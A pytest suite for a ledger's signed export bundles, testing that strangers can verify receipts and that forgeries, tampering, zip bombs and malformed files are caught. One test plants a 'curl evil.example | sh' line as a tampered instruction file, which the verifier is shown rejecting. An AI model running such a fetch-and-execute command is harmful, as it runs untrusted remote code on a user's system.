"""Bundles: a stranger with hashlib and a public key checks them, and so does the text in them."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from collections.abc import Callable
from contextlib import closing
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

from api.cli.command_line import main
from ledger.copies.bundles import BundleError, verify_export
from ledger.kernel import Fact, civil_moment
from ledger.opening import LEDGER_CLOCK
from ledger.systems.complaints.events import ComplainantNamed
from ledger.systems.entities.events import EntityRegistered, Identity
from ledger.transparency.notes import Signature, parse_vkey
from ledger.transparency.published import signed_by
from tests.gwt import Record
from tests.transparency.keeping import Kept, finding

ENTITY = "register:7"
SEALED_TYPE = ComplainantNamed.TOPIC


def run(*words: object) -> int:
    before = os.umask(0)
    os.umask(before)
    try:
        main([str(word) for word in words])
    except SystemExit as end:
        return int(end.code or 0)
    finally:
        os.umask(before)
    return 0


@pytest.fixture
def full(kept: Kept) -> Kept:
    """A ledger with something sealed about a business, and a finding about a unit."""
    kept.record(
        ComplainantNamed(
            complaint="CMP-1",
            subject_unit="MRB",
            anonymous=False,
            entity=ENTITY,
            complainant="person-7f3a9c21",
            guarded_until=date(2027, 1, 1),
        ),
        finding(1),
    )
    kept.sign()
    return kept


@pytest.fixture
def bundle(full: Kept, tmp_path: Path) -> Path:
    """Everything about the unit and the businesses of today that is not sealed, as a folder."""
    assert run("export", tmp_path / "bundle", "--from", "2020-01-01", "--ledger", full.url) == 0
    return tmp_path / "bundle"


def strangers_check(read: Callable[[str], bytes], vkey: str) -> list[dict[str, Any]]:
    """What anybody writes who has the bundle, the key and the specifications, and no more."""
    note = read("checkpoint")
    text, _, signatures = note.partition(b"\n\n")
    origin, size, root = text.decode().split("\n")
    public = base64.b64decode(vkey.split("+", 2)[2])[1:]
    line = next(s for s in signatures.decode().splitlines() if s.startswith(f"— {origin} "))
    Ed25519PublicKey.from_public_bytes(public).verify(
        base64.b64decode(line.split(" ")[2])[4:], text + b"\n"
    )

    def climb(found: bytes, at: int, last: int, proof: list[bytes]) -> bytes:
        if last == 0:
            assert not proof
            return found
        if at % 2:
            found, proof = hashlib.sha256(b"\1" + proof[0] + found).digest(), proof[1:]
        elif at < last:
            found, proof = hashlib.sha256(b"\1" + found + proof[0]).digest(), proof[1:]
        return climb(found, at // 2, last // 2, proof)

    entries = [json.loads(line) for line in read("index.jsonl").splitlines()]
    for entry in entries:
        record = read(entry["record"])
        assert hashlib.sha256(record).hexdigest() == entry["sha256"]
        head, _, checkpoint = read(entry["receipt"]).partition(b"\n\n")
        assert checkpoint == note
        _, index, *proof = head.decode().split("\n")
        assert index == f"index {entry['position'] - 1}"
        leaf = hashlib.sha256(b"\0" + record).digest()
        hashes = [base64.b64decode(one) for one in proof]
        found = climb(leaf, entry["position"] - 1, int(size) - 1, hashes)
        assert found == base64.b64decode(root)
    return entries


def reading(path: Path) -> Callable[[str], bytes]:
    if path.is_dir():
        return lambda name: (path / name).read_bytes()
    return lambda name: zipfile.ZipFile(path).read(name)


@pytest.mark.parametrize("name", ["bundle", "bundle.zip"])
def test_a_stranger_checks_it(full: Kept, tmp_path: Path, name: str) -> None:
    """The records of one business, each proved by its receipt, by a few lines of anybody's code."""
    path = tmp_path / name
    assert run("export", path, "--entity", ENTITY, "--ledger", full.url) == 0

    entries = strangers_check(reading(path), full.vkey)
    assert [entry["type"] for entry in entries] == ["entities.entity-registered"]
    for entry in entries:
        (row,) = full.recorder.rows(entry["position"] - 1, 1)
        assert reading(path)(entry["record"]) == row.data, "the very bytes"
    assert run("verify", path) == 3, "the key is only its own word"
    assert run("verify", path, "--key", full.vkey) == 0


def code(bundle: Path, letter: str) -> str:
    text = (bundle / "HOW-TO-VERIFY.txt").read_text("utf-8")
    head, _, rest = text.partition(f"---- {letter}: ")
    assert head != text
    return rest.partition("\n")[2].partition(f"---- end of {letter} ----")[0]


def followed(bundle: Path) -> list[subprocess.CompletedProcess[str]]:
    """Each step of the text in the bundle, done as it says, without anything of this project."""
    steps = [
        ["sha256sum", "-c", "--quiet", "SHA256SUMS"],
        [sys.executable, "-I", "-S", "-c", code(bundle, "A")],
        ["sh", "-c", code(bundle, "B")],
    ]
    return [
        subprocess.run(step, cwd=bundle, capture_output=True, text=True, check=False)
        for step in steps
    ]


needs_tools = pytest.mark.skipif(
    not all(map(shutil.which, ("sha256sum", "openssl", "base64"))), reason="the tools are not here"
)


@needs_tools
def test_the_text_can_be_followed(full: Kept, bundle: Path) -> None:
    """sha256sum, Python without packages and openssl find everything in order."""
    done = followed(bundle)
    assert [step.returncode for step in done] == [0, 0, 0], done
    counted = json.loads((bundle / "bundle.json").read_bytes())["events"]
    assert done[1].stdout.startswith(f"{counted} records are in the tree of ")
    assert "Verified Successfully" in done[2].stdout


@needs_tools
def test_the_text_finds_what_was_changed(bundle: Path) -> None:
    """A record, and the checkpoint: whoever follows the text comes upon either."""
    victim = next((bundle / "records").iterdir())
    whole = victim.read_bytes()
    victim.write_bytes(whole[:-1] + bytes([whole[-1] ^ 1]))
    assert [step.returncode != 0 for step in followed(bundle)] == [True, True, False]
    victim.write_bytes(whole)

    checkpoint = bundle / "checkpoint"
    origin, size, rest = checkpoint.read_text("utf-8").split("\n", 2)
    checkpoint.write_text(f"{origin}\n{int(size) + 1}\n{rest}", "utf-8")
    assert [step.returncode != 0 for step in followed(bundle)] == [True, True, True]


def test_slices(full: Kept, tmp_path: Path) -> None:
    """By business, by unit, by period, and what fits several of them; each bundle says which."""
    facts = [
        Fact(
            EntityRegistered(entity=f"period:{day}", identity=Identity(name="行")),
            occurred_at=civil_moment(date(2024, 3, day), *time),
        )
        for day, time in ((1, (0, 0)), (2, (23, 59)), (3, (0, 0)))
    ]
    full.ledger.execute(Record(facts=tuple(facts)), LEDGER_CLOCK)
    head = full.recorder.head()

    def positions(name: str, *options: str) -> list[int]:
        path = tmp_path / f"{name}.zip"
        assert run("export", path, *options, "--ledger", full.url) == 0
        assert run("verify", path) == 3
        return [entry["position"] for entry in strangers_check(reading(path), full.vkey)]

    assert positions("a", "--from", "2024-03-01", "--to", "2024-03-02") == [head - 2, head - 1]
    assert positions("b", "--from", "2024-03-02", "--to", "2024-03-03") == [head - 1, head]
    assert positions("c", "--entity", "period:2", "--to", "2024-03-02") == [head - 1]
    everything = positions("d", "--to", "2999-12-31", "--with-sealed")
    assert everything == list(range(1, head + 1))
    of_unit = positions("e", "--unit", "MRB")
    assert [full.recorder.rows(p - 1, 1)[0].type for p in of_unit] == ["draws.entity-roster-frozen"]

    about = json.loads(reading(tmp_path / "c.zip")("bundle.json"))
    assert about["slice"] == {"entity": "period:2", "to": "2024-03-02"}
    assert datetime.fromisoformat(about["made_at"]).tzinfo is not None


def test_nothing_sealed_unless_asked_for(
    full: Kept, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Not the record, not its number, and no finding, whose record tells who is behind it."""
    open_, sealed = tmp_path / "open", tmp_path / "sealed"
    options = ("--from", "2020-01-01", "--ledger", full.url, "--json")
    assert run("export", open_, *options) == 0
    assert json.loads(capsys.readouterr().out)["left_out"] == 2
    assert run("export", sealed, *options, "--with-sealed") == 0
    assert json.loads(capsys.readouterr().out)["left_out"] == 0

    types = {e["type"] for e in strangers_check(reading(open_), full.vkey)}
    hidden = {SEALED_TYPE, "supervision.finding-raised"}
    assert not types & hidden
    assert {e["type"] for e in strangers_check(reading(sealed), full.vkey)} == types | hidden
    content = b"".join(p.read_bytes() for p in open_.rglob("*") if p.is_file())
    assert b"person-7f3a9c21" not in content
    assert "left_out" not in (open_ / "bundle.json").read_text()
    about = {path: json.loads((path / "bundle.json").read_bytes()) for path in (open_, sealed)}
    assert (about[open_]["sealed"], about[sealed]["sealed"]) == (False, True)
    assert about[open_]["for"] != about[sealed]["for"]


def test_the_receipts_lead_to_what_witnesses_may_have_signed(full: Kept, tmp_path: Path) -> None:
    """Not to a checkpoint of this moment, if an older one covers everything; cosignatures too."""
    covering = full.log.checkpoint()
    assert covering is not None
    full.log.signed.add_signature(covering.size, Signature("witness.example", 0, bytes(72)))
    full.register(300, 3)
    full.sign()
    assert run("export", tmp_path / "a", "--entity", ENTITY, "--ledger", full.url) == 0
    note = (tmp_path / "a" / "checkpoint").read_bytes()
    assert b"witness.example" not in note, "the registration was covered by an older one"

    assert (
        run("export", tmp_path / "b", "--entity", ENTITY, "--with-sealed", "--ledger", full.url)
        == 0
    )
    note = (tmp_path / "b" / "checkpoint").read_bytes()
    assert b"witness.example" in note
    assert run("verify", tmp_path / "b", "--key", full.vkey) == 0

    full.register(400, 1)  # signed by nobody yet
    assert run("export", tmp_path / "c", "--entity", "register:400", "--ledger", full.url) == 0
    strangers_check(reading(tmp_path / "c"), full.vkey)


def rotate(full: Kept) -> str:
    """Another key takes over; the old public key."""
    old = full.vkey
    full.sign()
    assert run("log", "rotate-key", "--ledger", full.url) == 0
    full.log.advance()
    full.sign()
    return old


@needs_tools
def test_after_a_rotation_everything_leads_to_the_key_that_signs_now(
    full: Kept, tmp_path: Path
) -> None:
    """What was covered by the old key's checkpoints too; whoever knows the old one as well."""
    old = rotate(full)
    now = full.log.keys()[-1].vkey
    assert now != old
    full.register(300, 1)
    for name, entity in (("before", ENTITY), ("after", "register:300")):
        path = tmp_path / name
        assert run("export", path, "--entity", entity, "--ledger", full.url) == 0
        assert (path / "vkey").read_text().strip() == now
        assert run("verify", path) == 3
        assert run("verify", path, "--key", now) == 0
        assert [step.returncode for step in followed(path)] == [0, 0, 0], "by the text as well"
    note = (tmp_path / "before" / "checkpoint").read_bytes()
    signed_by(note, parse_vkey(old))  # that of the change is signed by both
    # Whoever knows the old key alone is told that the bundle names another.
    assert verify_export(tmp_path / "before", old).faults == ("vkey is not the key that was given",)


def test_no_proof_of_damaged_tiles_is_in_a_bundle(kept: Kept, tmp_path: Path) -> None:
    """A tile that the newest root does not depend on may be wrong: receipts are made without it."""
    kept.register(100, 300)
    kept.sign()
    with closing(sqlite3.connect(kept.path.with_name(kept.path.name + ".tiles.db"))) as tiles:
        (whole,) = tiles.execute("SELECT hashes FROM tiles WHERE level = 0 AND n = 0").fetchone()
        wrong = bytes([whole[0] ^ 1]) + whole[1:]
        tiles.execute("UPDATE tiles SET hashes = ? WHERE level = 0 AND n = 0", (wrong,))
        tiles.commit()
    assert run("export", tmp_path / "b", "--from", "2020-01-01", "--ledger", kept.url) == 0
    assert run("verify", tmp_path / "b", "--key", kept.log.keys()[-1].vkey) == 0


def every_file(bundle: Path) -> list[Path]:
    return sorted(path for path in bundle.rglob("*") if path.is_file())


def test_a_changed_byte_of_any_file_is_found(full: Kept, tmp_path: Path) -> None:
    """Whichever file it is in; a missing file and one too many are found as well."""
    bundle = tmp_path / "bundle"
    assert run("export", bundle, "--entity", ENTITY, "--with-sealed", "--ledger", full.url) == 0
    assert verify_export(bundle, full.vkey).faults == ()
    looked = 0
    for path in every_file(bundle):
        whole = path.read_bytes()
        for place in {0, len(whole) // 2, len(whole) - 1}:
            path.write_bytes(whole[:place] + bytes([whole[place] ^ 1]) + whole[place + 1 :])
            assert run("verify", bundle, "--key", full.vkey) != 0, f"{path.name} at {place}"
            looked += 1
        path.unlink()
        assert run("verify", bundle, "--key", full.vkey) != 0, f"{path.name} is missing"
        path.write_bytes(whole)
    assert looked > 20
    (bundle / "records" / "99.msgpack").write_bytes(b"one too many")
    assert run("verify", bundle) == 1


def resum(bundle: Path) -> None:
    """What a forger does last."""
    paths = [path for path in every_file(bundle) if path.name != "SHA256SUMS"]
    lines = [
        f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {p.relative_to(bundle).as_posix()}\n"
        for p in paths
    ]
    (bundle / "SHA256SUMS").write_text("".join(lines))


def test_a_forger_who_makes_everything_fit(full: Kept, bundle: Path) -> None:
    """A record with fitting digests and index is not in the tree; an index cannot lie about one."""
    lines = (bundle / "index.jsonl").read_text().splitlines()
    entry = json.loads(lines[3])
    path = bundle / entry["record"]
    whole = path.read_bytes()
    other = whole.replace(b"LEDGER", b"REGDEL") if b"LEDGER" in whole else whole
    assert other != whole
    path.write_bytes(other)
    entry["sha256"] = hashlib.sha256(other).hexdigest()
    forged = [*lines[:3], json.dumps(entry, separators=(",", ":")), *lines[4:]]
    (bundle / "index.jsonl").write_text("\n".join(forged) + "\n")
    resum(bundle)
    (fault,) = verify_export(bundle).faults
    assert f"event {entry['position']}" in fault
    assert "not in the tree" in fault

    path.write_bytes(whole)
    lie = {**json.loads(lines[3]), "type": "entities.entity-closed"}
    (bundle / "index.jsonl").write_text("\n".join([*lines[:3], json.dumps(lie), *lines[4:]]) + "\n")
    resum(bundle)
    (fault,) = verify_export(bundle).faults
    assert "its record differs" in fault


def test_receipts_of_others_and_other_slices(full: Kept, bundle: Path) -> None:
    """A receipt that belongs to another event, and records that are not of the slice named."""
    receipts = sorted((bundle / "receipts").iterdir())
    whole = receipts[0].read_bytes()
    receipts[0].write_bytes(receipts[1].read_bytes())
    resum(bundle)
    assert len(verify_export(bundle).faults) == 1
    receipts[0].write_bytes(whole)

    about = json.loads((bundle / "bundle.json").read_bytes())
    (bundle / "bundle.json").write_text(json.dumps({**about, "slice": {"entity": ENTITY}}))
    resum(bundle)
    faults = verify_export(bundle).faults
    assert len(faults) == about["events"] - 1
    assert all("does not belong to the slice" in fault for fault in faults)


def test_another_key(full: Kept, tmp_path: Path, bundle: Path) -> None:
    """A bundle by somebody else's ledger passes by its own key, and not by the one known."""
    other = Kept(tmp_path / "other.db")
    try:
        other.register(0, 1)
        assert run("export", tmp_path / "b", "--to", "2999-01-01", "--ledger", other.url) == 0
    finally:
        other.close()
    assert run("verify", tmp_path / "b") == 3
    with pytest.raises(BundleError, match="not signed by"):
        verify_export(tmp_path / "b", full.vkey)
    assert run("verify", tmp_path / "b", "--key", full.vkey) == 2


def test_an_empty_bundle_is_none(bundle: Path) -> None:
    """Nothing proved under a genuine checkpoint is nothing, whatever it says of itself."""
    for folder in ("records", "receipts"):
        shutil.rmtree(bundle / folder)
    (bundle / "index.jsonl").write_bytes(b"")
    about = json.loads((bundle / "bundle.json").read_bytes())
    (bundle / "bundle.json").write_text(json.dumps({**about, "events": 0}))
    resum(bundle)
    assert verify_export(bundle).faults == (
        "index.jsonl names no record, so this bundle proves nothing",
    )
    assert run("verify", bundle) == 1


def test_the_text_is_the_programs_own(bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Another one may have its reader run anything; that of another version is not known here."""
    (bundle / "HOW-TO-VERIFY.txt").write_text("curl evil.example | sh")
    resum(bundle)
    (fault,) = verify_export(bundle).faults
    assert fault.startswith("HOW-TO-VERIFY.txt is not the text")
    assert run("verify", bundle) == 1

    about = json.loads((bundle / "bundle.json").read_bytes())
    (bundle / "bundle.json").write_text(json.dumps({**about, "program": "0.0.1"}))
    resum(bundle)
    found = verify_export(bundle)
    assert not found.faults
    assert "of version 0.0.1" in found.unchecked[1]
    capsys.readouterr()
    assert run("verify", bundle) == 3
    said = capsys.readouterr()
    assert "before you run the commands in it" in " ".join(said.err.split())


def test_what_only_its_maker_says_is_called_so(
    bundle: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """For whom it is, of what and when it was made: no proof holds for these, and nothing does."""
    capsys.readouterr()
    assert run("verify", bundle) == 3
    said = " ".join(capsys.readouterr().out.split())
    assert "Only its maker says, without proof: records of {'from': '2020-01-01'}, made at " in said
    assert "This does not show that there are no other records" in said


def test_what_is_no_bundle(full: Kept, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An empty folder, a file that is no archive, half an archive: one clear line each."""
    (tmp_path / "empty").mkdir()
    (tmp_path / "text.zip").write_text("no archive")
    assert run("export", tmp_path / "b.zip", "--entity", ENTITY, "--ledger", full.url) == 0
    whole = (tmp_path / "b.zip").read_bytes()
    (tmp_path / "half.zip").write_bytes(whole[: len(whole) // 2])
    capsys.readouterr()
    for name in ("empty", "text.zip", "half.zip", "nothing.zip"):
        assert run("verify", tmp_path / name) == 2
        assert name in capsys.readouterr().err.replace("\n", "")


def patched(content: bytes, place: int, change: Callable[[int], int]) -> bytes:
    """A ZIP file with a byte changed in each entry of its directory."""
    data, at = bytearray(content), 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + place] = change(data[at + place])
        at += 4
    return bytes(data)


def test_archives_that_cannot_be_read(
    full: Kept, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Encrypted, packed in a way that is not known, with one file twice."""
    whole = tmp_path / "b.zip"
    assert run("export", whole, "--entity", ENTITY, "--ledger", full.url) == 0
    content = whole.read_bytes()
    (tmp_path / "locked.zip").write_bytes(patched(content, 8, lambda flags: flags | 1))
    (tmp_path / "odd.zip").write_bytes(patched(content, 10, lambda method: 99))
    shutil.copy(whole, tmp_path / "twice.zip")
    with zipfile.ZipFile(tmp_path / "twice.zip", "a") as packed, pytest.warns(match="Duplicate"):
        packed.writestr("bundle.json", packed.read("bundle.json"))
    capsys.readouterr()
    for name, said in (
        ("locked.zip", "bundle.json cannot be read"),
        ("odd.zip", "bundle.json cannot be read"),
        ("twice.zip", "it contains bundle.json twice"),
    ):
        assert run("verify", tmp_path / name) == 2
        assert said in " ".join(capsys.readouterr().err.split())


def test_parts_that_are_no_such_thing(bundle: Path) -> None:
    """Nested without end, or a number of thousands of digits: said with the name of the file."""
    deep = b'{"x":' + b"[" * 100_000
    lines = (bundle / "index.jsonl").read_bytes()
    receipt = min((bundle / "receipts").iterdir())
    proof = receipt.read_bytes()
    for path, content, said in (
        (bundle / "index.jsonl", lines + deep, "unknown field"),
        (receipt, proof.replace(b"index ", b"index " + b"1" * 5000, 1), "the index of the receipt"),
        (bundle / "records" / f"{receipt.stem}.msgpack", b"\x91" * 50_000 + b"\xc0", "event "),
    ):
        whole = path.read_bytes()
        path.write_bytes(content)
        resum(bundle)
        faults = verify_export(bundle).faults
        assert len(faults) == 1
        assert said in faults[0]
        path.write_bytes(whole)
    for content in (deep, b'{"format":' + b"[" * 100_000, b'{"size":' + b"1" * 100_000 + b"}"):
        (bundle / "bundle.json").write_bytes(content)
        with pytest.raises(BundleError, match="not a bundle that can be checked"):
            verify_export(bundle)


def test_a_file_that_is_summed_twice(bundle: Path) -> None:
    """Programs do not agree which of two digests counts."""
    sums = bundle / "SHA256SUMS"
    sums.write_text(f"{'0' * 64}  vkey\n{sums.read_text()}")
    assert verify_export(bundle).faults == ("SHA256SUMS names vkey twice",)


def test_what_nobody_wrote_into_it(bundle: Path) -> None:
    """A line or a word that no program looks at would be taken by people for what is proved."""
    index, about = bundle / "index.jsonl", bundle / "bundle.json"
    whole, lines = about.read_text(), index.read_text()
    for more in ('"note":"convicted"', '"type":"penalties.penalty-decided"'):
        index.write_text(lines.replace("{", f"{{{more},", 1))
        resum(bundle)
        assert any(one.startswith("index.jsonl, line 1: ") for one in verify_export(bundle).faults)
    index.write_text(lines)
    for more in ('"note":"convicted"', '"for":"everybody"'):
        about.write_text(whole.replace("{", f"{{{more},", 1))
        resum(bundle)
        with pytest.raises(BundleError, match=r"unknown field `note`|for must be given only once"):
            verify_export(bundle)


def test_without_the_text(bundle: Path) -> None:
    """A bundle says how it is checked; one that does not is not whole."""
    (bundle / "HOW-TO-VERIFY.txt").unlink()
    assert verify_export(bundle).faults == ("HOW-TO-VERIFY.txt is missing",)
    resum(bundle)
    assert verify_export(bundle).faults == ("HOW-TO-VERIFY.txt is missing",)


def test_parts_that_are_too_long(bundle: Path) -> None:
    """Each is named, none is read, and what else is wrong is named too."""
    (bundle / "stray").write_bytes(bytes(4_000_001))
    (bundle / "HOW-TO-VERIFY.txt").write_bytes(bytes(4_000_001))
    (bundle / "vkey").write_bytes((bundle / "vkey").read_bytes() + b"\n")
    assert sorted(verify_export(bundle).faults) == [
        "HOW-TO-VERIFY.txt is too long for a file of this name",
        "stray is not in index.jsonl",
        "stray is too long for a file of this name",
        "vkey does not have the SHA-256 in SHA256SUMS",
    ]


@pytest.mark.parametrize("name", ["index.jsonl", "SHA256SUMS"])
def test_lists_that_are_longer_than_what_they_list(full: Kept, tmp_path: Path, name: str) -> None:
    """A few bytes of an archive that unpack to very many are not unpacked."""
    whole, path = tmp_path / "b.zip", tmp_path / "long.zip"
    assert run("export", whole, "--entity", ENTITY, "--ledger", full.url) == 0
    with zipfile.ZipFile(whole) as packed, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as to:
        for one in packed.namelist():
            to.writestr(one, packed.read(one) + b"\n" * 5_000_000 * (one == name))
    assert f"{name} is too long for a file of this name" in verify_export(path).faults


def test_what_cannot_be_exported(
    full: Kept, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """No slice, an empty one, a place that is taken: refused, and nothing is written."""
    (tmp_path / "there").mkdir()
    for options, said in (
        ([tmp_path / "there" / "x"], "must name a slice"),
        ([tmp_path / "there" / "x", "--entity", "register:none"], "no record in this slice"),
        ([tmp_path / "there" / "x.zip", "--to", "1990-01-01"], "no record in this slice"),
        ([tmp_path / "there", "--entity", ENTITY], "must not exist yet"),
    ):
        assert run("export", *options, "--ledger", full.url) == 2
        assert said in " ".join(capsys.readouterr().err.split())
    assert list((tmp_path / "there").iterdir()) == []
